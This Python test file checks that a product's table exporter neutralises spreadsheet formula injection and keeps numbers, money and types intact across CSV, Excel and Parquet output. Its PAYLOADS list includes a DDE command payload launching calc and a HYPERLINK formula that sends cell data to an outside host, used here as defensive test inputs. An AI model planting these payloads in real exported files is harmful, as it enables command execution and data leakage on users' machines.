"""Tables that leave the product."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from kernklant.engine.errors import UserError
from kernklant.engine.evaluation.tables import safe_text, write_table

PAYLOADS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://x/?"&A1)',
    "＝1+1",
]


def example() -> pa.Table:
    return pa.table(
        {
            "customer_id": pa.array(["0012", "1E5", "99999999999999999999"]),
            "name": pa.array(["=1+1", None, 'Quote " comma ,']),
            "amount": pa.array([Decimal("-12.50"), None, Decimal("1.00")], pa.decimal128(18, 2)),
        }
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_that_acts_gets_a_quote_in_front(payload: str) -> None:
    assert safe_text(payload) == "'" + payload


@pytest.mark.parametrize("harmless", ["Bakker BV", "", None, -12.5, Decimal("-1.00"), True])
def test_everything_else_stays_as_it_is(harmless: object) -> None:
    assert safe_text(harmless) == harmless


def test_csv_keeps_numbers_as_text_and_money_negative(tmp_path: Path) -> None:
    file = tmp_path / "out.csv"
    assert write_table(example(), file) == 3
    with file.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["customer_id", "name", "amount"]
    assert rows[1] == ["0012", "'=1+1", "-12.50"]
    assert rows[2] == ["1E5", "", ""]
    assert rows[3] == ["99999999999999999999", 'Quote " comma ,', "1.00"]


def test_excel_holds_no_formula_and_real_numbers(tmp_path: Path) -> None:
    file = tmp_path / "out.xlsx"
    write_table(example(), file)
    sheet = load_workbook(file).active
    kinds = [[cell.data_type for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert "f" not in {kind for row in kinds for kind in row}
    assert sheet["A2"].value == "0012"
    assert sheet["C2"].value == pytest.approx(-12.5)


def test_excel_survives_control_characters(tmp_path: Path) -> None:
    file = tmp_path / "out.xlsx"
    write_table(pa.table({"name": ["bel\x07"]}), file)
    assert load_workbook(file).active["A2"].value == "bel\ufffd"


def test_parquet_keeps_every_type(tmp_path: Path) -> None:
    file = tmp_path / "out.parquet"
    write_table(example(), file)
    assert pq.read_table(file).equals(example())


def test_another_ending_is_refused_and_nothing_written(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="Unknown kind"):
        write_table(example(), tmp_path / "out.docx")
    assert list(tmp_path.iterdir()) == []
